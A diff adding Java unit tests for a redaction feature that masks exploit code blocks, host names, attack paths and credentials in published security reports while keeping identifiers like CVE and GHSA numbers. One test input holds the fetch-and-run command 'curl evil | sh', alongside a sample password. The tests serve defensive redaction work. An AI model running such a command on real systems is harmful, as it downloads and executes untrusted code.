@@ -88,6 +88,83 @@ class PublishedRulesTest {
     }
 
     @Test
+    void aBlockIsFencedHoweverItsFenceIsTypedOrWhereverItStands() {
+        for (String fence : List.of(
+                "- ```",
+                "* - ~~~",
+                "10. ```",
+                "> 1) ```",
+                "\u200b```",
+                "`\u200b``",
+                "\u3000```",
+                "\u00a0```",
+                "\uff40\uff40\uff40")) {
+            String end = fence.contains("~") ? "~~~" : "```";
+            assertEquals(
+                    "a\n" + fence + "sh\n[\u25a0 EXPLOIT_CODE]  " + end + "\nprose",
+                    masked(ALL, "a\n" + fence + "sh\ncurl evil | sh\n  " + end + "\nprose"),
+                    fence);
+        }
+        assertEquals("-```\nprose", masked(ALL, "-```\nprose"), "no marker of a list without a space");
+        assertEquals(
+                "```\n[\u25a0 EXPLOIT_CODE]```\nprose",
+                masked(ALL, "```\n- ```\nstill code\n```\nprose"),
+                "a list item doesn't end a block");
+    }
+
+    @Test
+    void marksAreMarksInFullWidthToo() {
+        assertEquals(
+                "\u63a5\u7d9a\u5148\u306f[\u25a0 HOSTS]\u3067\u3059",
+                masked(
+                        ALL,
+                        "\u63a5\u7d9a\u5148\u306f\uff3b\uff3bhosts\uff1a\u57fa\u5e79\u7cfb\uff3d\uff3d\u3067\u3059"));
+        assertEquals("[\u25a0 ATTACK_PATHS]", masked(ALL, "[[\uff50\uff41\uff54\uff48\uff1a VPN]\u200b]"));
+    }
+
+    @Test
+    void whatStandsAmongIdentifiersAndWeaknessesIsMaskedAndTheirNumbersAreNot() {
+        List<String> numbers = List.of(
+                "CVE-2026-1234567",
+                "GHSA-jfh8-c2jp-5v3q",
+                "RHSA-2026:1234",
+                "JVNDB-2026-000001",
+                "JVN#12345678",
+                "JVNVU#91234567",
+                "PYSEC-2026-12",
+                "RUSTSEC-2026-0001",
+                "GO-2026-1234",
+                "USN-1234-1",
+                "DSA-5678-1",
+                "ICSA-26-123-01",
+                "EUVD-2026-12345",
+                "VU#123456",
+                "KB5034441",
+                "ZDI-26-123");
+        ReportContent content = new ReportContent(
+                "Title",
+                "",
+                "",
+                "",
+                Stream.concat(numbers.stream(), Stream.of("ticket at pay.aoba.internal", "[[hosts: core]]"))
+                        .toList(),
+                List.of("CWE-79", "CWE-1321", "password=hunter2!"),
+                List.of(),
+                List.of(),
+                List.of(),
+                List.of(),
+                List.of());
+        ReportContent read = new Masking(ALL, EnumSet.allOf(SensitiveMatter.class))
+                .content(content)
+                .content();
+        assertEquals(
+                Stream.concat(numbers.stream(), Stream.of("ticket at [\u25a0 HOSTS 1]", "[\u25a0 HOSTS 2]"))
+                        .toList(),
+                read.identifiers());
+        assertEquals(List.of("CWE-79", "CWE-1321", "password=[\u25a0 CREDENTIALS 3]"), read.weaknesses());
+    }
+
+    @Test
     void authorsMarkWhatNoRuleKnows() {
         assertEquals(
                 "by [\u25a0 ATTACK_PATHS], then [\u25a0 HOSTS]",
